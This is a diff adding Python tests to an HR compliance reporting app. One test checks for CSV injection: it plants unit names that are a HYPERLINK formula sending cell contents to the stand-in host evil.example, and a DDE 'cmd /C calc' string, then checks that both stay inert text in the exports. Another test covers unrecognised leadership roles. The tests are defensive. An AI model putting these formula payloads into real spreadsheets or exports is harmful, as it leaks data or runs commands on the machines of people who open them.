@@ -70,6 +70,21 @@ def test_xlsx_export_is_a_readable_workbook(api_as, org):
     assert all_public[4:9] == (8, 4, 0.5, 0.6, 1)
 
 
+def test_unit_names_that_look_like_formulas_stay_text_in_the_exports(api_as, org, db_session):
+    """A unit named like a formula ran as one on HR's computer when the CSV or XLSX was opened (CSV injection)."""
+    org.d1.name = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    org.d2.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db_session.flush()
+    hr = api_as("hr")
+    rows = _csv_rows(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=csv").get_data(as_text=True))
+    names = {row["unit"]: row["unit_name"] for row in rows}
+    assert names[org.d1.code] == "'" + org.d1.name and names[org.d2.code] == "'" + org.d2.name
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+    book = load_workbook(io.BytesIO(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=xlsx").get_data()))
+    cells = {row[0].value: row[1] for row in book["Compliance"].iter_rows(min_row=2)}
+    assert cells[org.d1.code].data_type == "s" and cells[org.d1.code].value == org.d1.name
+
+
 def test_svg_chart_is_well_formed(api_as, org):
     response = api_as("hr").get(f"/api/v1/hr/compliance/chart.svg?{QUERY}")
     assert response.status_code == 200
@@ -156,3 +171,26 @@ def test_cli_report_compliance_prints_csv_table_and_writes_xlsx(app, org, tmp_pa
         assert far_back.exit_code == 1 and "as_of" in far_back.output and "Traceback" not in far_back.output
         missing = runner.invoke(main, ["report", "compliance", "--deadline", "2027-12-31"])
         assert missing.exit_code != 0 and "2025-12-31" in missing.output
+
+
+def test_leadership_roles_off_the_ladder_are_listed_for_hr_to_correct(api_as, org, db_session, app):
+    """Roles stored before they were checked and naming no rung (kept by migration a065aa92f44d) count in no
+    leadership cohort: the report lists the people it counts who have one, in the asker's units."""
+    for key, role in (("a5", "Giám đốc"), ("c4", "Trưởng khoa"), ("t1", "Hiệu trưởng")):  # t1: out of scope
+        org.staff[key].leadership_role = role
+    org.staff["c4"].staff_number = "NV-0004"
+    db_session.flush()
+    report = api_as("hr").get(f"/api/v1/hr/compliance?{QUERY}").json
+    listed = [(p["unit"], p["full_name"], p["leadership_role"]) for p in report["unrecognised_leadership_roles"]]
+    assert listed == sorted([(org.d1.code, "Person a5", "Giám đốc"), (org.d2.code, "Person c4", "Trưởng khoa")])
+    scoped = api_as("hr", unit=org.d2).get(f"/api/v1/hr/compliance?{QUERY}").json
+    assert scoped["unrecognised_leadership_roles"] == [{
+        "staff_id": org.staff["c4"].id, "staff_number": "NV-0004", "full_name": "Person c4", "unit": org.d2.code,
+        "leadership_role": "Trưởng khoa"}]
+    with app.app_context():
+        table = CliRunner().invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--as-of",
+                                          str(AS_OF), "--unit", org.d2.code])
+    assert table.exit_code == 0, table.output
+    assert "note: 1 person has a leadership role that names no rung of the ladder" in table.stderr
+    assert f"{org.d2.code} NV-0004 Person c4: 'Trưởng khoa'" in table.stderr
+    assert "Trưởng khoa" not in table.stdout  # the table itself is unchanged
